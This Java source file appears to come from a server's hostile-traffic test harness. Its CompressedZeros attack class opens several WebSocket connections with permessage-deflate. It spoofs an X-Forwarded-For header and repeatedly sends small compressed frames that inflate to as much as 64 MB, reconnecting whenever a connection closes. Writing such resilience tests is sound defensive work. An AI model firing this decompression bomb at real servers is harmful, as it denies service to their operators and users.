package io.bg3.server.hostile;

import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.util.List;

/** Small compressed messages that are large when they are inflated. */
final class CompressedZeros extends Attack {
  private static final int CONNECTIONS = 8;
  private static final long PAUSE_MILLIS = 50;

  private final ByteBuffer handshake =
      Frames.ascii(
          Frames.handshake(
              "Sec-WebSocket-Extensions: permessage-deflate\r\nX-Forwarded-For: 192.0.2.1\r\n"));
  private final List<ByteBuffer> pool =
      List.of(Frames.zeros(1 << 16), Frames.zeros(1 << 20), Frames.zeros(64 << 20));

  CompressedZeros(Target target, long seed, InetAddress from) {
    super(target, seed, from);
  }

  @Override
  void begin() {
    for (int i = 0; i < CONNECTIONS; i++) {
      after(random().nextInt(500), this::inflate);
    }
  }

  private void inflate() {
    connect(
        new SocketPeer(this) {
          @Override
          ByteBuffer handshake() {
            return handshake;
          }

          @Override
          void opened() {
            if (!isOver()) {
              attempt();
              send(pick(pool));
            }
          }

          @Override
          void answered(int status) {
            after(PAUSE_MILLIS, this::opened);
          }

          @Override
          void closed() {
            count("closed");
            after(RETURN_MILLIS, CompressedZeros.this::inflate);
          }
        });
  }
}
